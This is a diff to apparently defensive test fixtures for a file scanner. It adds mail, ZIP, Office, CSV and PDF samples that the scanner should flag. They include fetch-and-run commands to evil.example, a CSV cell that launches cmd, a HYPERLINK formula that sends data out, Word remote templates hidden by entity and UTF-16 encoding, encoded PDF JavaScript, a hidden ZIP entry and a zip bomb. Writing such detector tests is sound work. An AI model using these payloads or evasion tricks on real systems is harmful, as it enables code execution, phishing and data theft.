@@ -37,6 +37,18 @@ const pdfStream = (content: Buffer | string): Buffer => {
   return Buffer.concat([Buffer.from(`5 0 obj\n<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n`), packed, Buffer.from('\nendstream\nendobj\n')]);
 };
 
+const pdfText = (filter: string, content: string): Buffer => Buffer.from(`5 0 obj\n<< /Type /ObjStm /Length ${content.length} /Filter ${filter} >>\nstream\n${content}\nendstream\nendobj\n`);
+
+function ascii85(bytes: Buffer): string {
+  let text = '';
+  for (let at = 0; at < bytes.length; at += 4) {
+    const group = Buffer.concat([bytes.subarray(at, at + 4), Buffer.alloc(3)]).readUInt32BE();
+    const digits = [4, 3, 2, 1, 0].map((power) => String.fromCharCode(33 + (Math.floor(group / 85 ** power) % 85))).join('');
+    text += digits.slice(0, Math.min(4, bytes.length - at) + 1);
+  }
+  return `${text}~>`;
+}
+
 /** An Office document of today with more parts. */
 export function office(folder: 'word' | 'xl' | 'ppt', ...more: PackedFile[]): Buffer {
   const main = { word: 'word/document.xml', xl: 'xl/workbook.xml', ppt: 'ppt/presentation.xml' }[folder];
@@ -61,6 +73,21 @@ function quine(): Buffer {
 }
 
 const mail = 'From: a@example.com\r\nTo: b@example.com\r\nSubject: Hello\r\n\r\nA letter.\r\n';
+/** A mail to which a file is attached; `headers` of its part in place of the usual ones. */
+export const mailWith = (name: string, content: Buffer, headers = `Content-Disposition: attachment; filename="${name}"`): Buffer =>
+  Buffer.from(
+    ['From: a@example.com', 'To: b@example.com', 'Subject: Your invoice', 'MIME-Version: 1.0', 'Content-Type: multipart/related; boundary=b', '', '--b', 'Content-Type: text/plain', '', 'See below.', '--b', headers, 'Content-Transfer-Encoding: base64', '', content.toString('base64'), '--b--', ''].join('\r\n'),
+  );
+
+/** A ZIP file with an entry before the others that its directory does not name. */
+function zipWithHidden(hidden: PackedFile): Buffer {
+  const entriesOf = (zip: Buffer): Buffer => zip.subarray(0, zip.readUInt32LE(zip.length - 6));
+  const [before, shown] = [entriesOf(packZip([hidden])), packZip([{ name: 'a.txt', content: 'harmless' }])];
+  const directory = Buffer.from(shown.subarray(entriesOf(shown).length, -22));
+  directory.writeUInt32LE(before.length, 42);
+  return Buffer.concat([before, entriesOf(shown), directory, zipEnd(1, directory.length, before.length + entriesOf(shown).length)]);
+}
+
 const refused = (what: string, name: string, bytes: Buffer, reason: ReasonCode): Hostile => ({ what, name, bytes, state: 'refused', reason });
 const flagged = (what: string, name: string, bytes: Buffer, reason: ReasonCode): Hostile => ({ what, name, bytes, state: 'flagged', reason });
 const infected = (what: string, name: string, bytes: Buffer): Hostile => ({ what, name, bytes, state: 'infected', reason: 'malware' });
@@ -153,6 +180,31 @@ export const hostileFiles: Hostile[] = [
   flagged('a PDF called picture', 'scan.png', pdf(), 'disguised'),
   flagged('a shell script', 'install.txt', Buffer.from('#!/bin/bash\ncurl evil.example | sh\n'), 'script'),
   flagged('a PowerShell script', 'update.ps1', Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://evil.example")'), 'script'),
+  flagged('a mail with a program', 'mail.eml', mailWith('invoice.pdf.exe', pe), 'attached_program'),
+  flagged('a mail with a program that is shown as a part of its text', 'mail.eml', mailWith('logo.png', pe, 'Content-Type: image/png\r\nContent-Disposition: inline; filename="logo.png"\r\nContent-ID: <logo>'), 'attached_program'),
+  flagged('a mail with macros', 'mail.eml', mailWith('letter.docm', office('word', { name: 'word/vbaProject.bin', content: 'Sub AutoOpen()' })), 'attached_active'),
+  flagged('a mail with a page that asks for a password', 'mail.eml', mailWith('login.html', Buffer.from('<html><form action="http://evil.example">')), 'attached_active'),
+  flagged('a mail with a mail with a program', 'mail.eml', mailWith('forwarded.eml', mailWith('setup.exe', pe)), 'attached_program'),
+  flagged('a mail with an archive that nobody can look into', 'mail.eml', mailWith('invoice.rar', Buffer.from('Rar!\x1a\x07\x00', 'latin1')), 'attached_active'),
+  flagged('a mail with a bomb', 'mail.eml', mailWith('bomb.zip', packZip([{ name: 'zeros.txt', content: Buffer.alloc(30_000_000, 32) }])), 'attached_active'),
+  flagged('an archive with a file that its directory does not name', 'a.zip', zipWithHidden({ name: 'evil.exe', content: pe }), 'archive_hidden'),
+  flagged('an archive with an archive that nobody can look into', 'a.zip', packZip([{ name: 'a.7z', content: hex('377abcaf271c') }]), 'archive_closed'),
+  flagged('an archive with a mail with a program', 'a.zip', packZip([{ name: 'mail.eml', content: mailWith('setup.exe', pe) }]), 'archive_closed'),
+  flagged('a Word document that fetches its template, quoted in the other way', 'letter.docx', office('word', { name: 'word/_rels/settings.xml.rels', content: external('attachedTemplate', 'http://evil.example/t.dotm').replaceAll('"', "'") }), 'remote_content'),
+  flagged('a Word document that fetches its template, written in numbers', 'letter.docx', office('word', { name: 'word/_rels/settings.xml.rels', content: external('attachedTemplate', 'http://evil.example/t.dotm').replace('External', '&#69;xterna&#x6c;') }), 'remote_content'),
+  flagged('a Word document that fetches its template, in UTF-16', 'letter.docx', office('word', { name: 'word/_rels/settings.xml.rels', content: Buffer.from(`\ufeff${external('attachedTemplate', 'http://evil.example/t.dotm')}`, 'utf16le') }), 'remote_content'),
+  flagged('a Word document with a picture that tells its sender who reads it', 'letter.docx', office('word', { name: 'word/_rels/document.xml.rels', content: external('image', 'http://evil.example/1.png') }), 'remote_content'),
+  flagged('a Word document with macros under another name', 'letter.docx', office('word', { name: 'word/theme.bin', content: ole('_VBA_PROJECT') }), 'macro'),
+  flagged('a document of LibreOffice with macros', 'letter.odt', packZip([{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', method: 0 }, { name: 'content.xml', content: '<x/>' }, { name: 'Basic/Standard/Module1.xml', content: '<x/>' }]), 'macro'),
+  flagged('a table with a cell that starts a program', 'users.csv', Buffer.from("name,mail\n=cmd|'/C calc'!A0,x\n"), 'command_field'),
+  flagged('a table with a cell that asks an address', 'users.csv', Buffer.from('name,mail\n"=HYPERLINK(""http://evil.example/""&A1)",x\n'), 'command_field'),
+  flagged('a PDF with a script in a part that is written in hex', 'a.pdf', pdf('', pdfText('/ASCIIHexDecode', `${Buffer.from('<< /S /JavaScript /JS (x) >>').toString('hex')}>`)), 'pdf_active'),
+  flagged('a PDF with a script in a part that is packed and then written as text', 'a.pdf', pdf('', pdfText('[/ASCII85Decode /FlateDecode]', ascii85(deflateSync(Buffer.from('<< /S /JavaScript /JS (x) >>'))))), 'pdf_active'),
+  flagged('a PDF that opens a file elsewhere', 'a.pdf', pdf('/OpenAction << /S /GoToR /F (\\\\evil.example\\a) /D [0 /Fit] >>'), 'pdf_active'),
+  infected('the test file attached to a mail', 'mail.eml', mailWith('note.txt', eicar)),
+  infected('the test file in a ZIP file attached to a mail', 'mail.eml', mailWith('note.zip', packZip([{ name: 'eicar.com', content: eicar }]))),
+  infected('the test file attached to a mail in a mail', 'mail.eml', mailWith('forwarded.eml', mailWith('note.txt', eicar))),
+  infected('the test file attached to a mail in a ZIP file', 'a.zip', packZip([{ name: 'mail.eml', content: mailWith('note.txt', eicar) }])),
   infected('the test file for scanners', 'eicar.txt', eicar),
   infected('the test file called picture', 'eicar.png', eicar),
   infected('the test file in a ZIP file', 'a.zip', packZip([{ name: 'eicar.com', content: eicar }])),
@@ -173,7 +225,10 @@ export const harmlessFiles: Hostile[] = (
     ['a web server log with an attack in it', 'access.log', Buffer.from('10.0.0.1 - - "GET /?q=<script>alert(1)</script> HTTP/1.1" 403\n')],
     ['a table', 'users.csv', Buffer.from('name,mail\nAna,ana@example.com\n')],
     ['a log of JSON', 'events.json', Buffer.from('{"a":1}')],
+    ['a table with numbers below zero and a rule', 'change.csv', Buffer.from('name,change\nAna,-5\nBo,+3.2\n"Sum","-1.8"\n-----|-----\n')],
     ['a mail', 'mail.eml', Buffer.from(mail)],
+    ['a mail with a picture', 'mail.eml', mailWith('photo.png', picture)],
+    ['a mail with a letter', 'mail.eml', mailWith('letter.pdf', pdf())],
     ['a mail of Outlook', 'mail.msg', ole('__substg1.0_0037001F')],
     ['a Word document', 'letter.docx', office('word', { name: 'word/_rels/document.xml.rels', content: external('hyperlink', 'https://example.com') })],
     ['a workbook', 'table.xlsx', office('xl')],
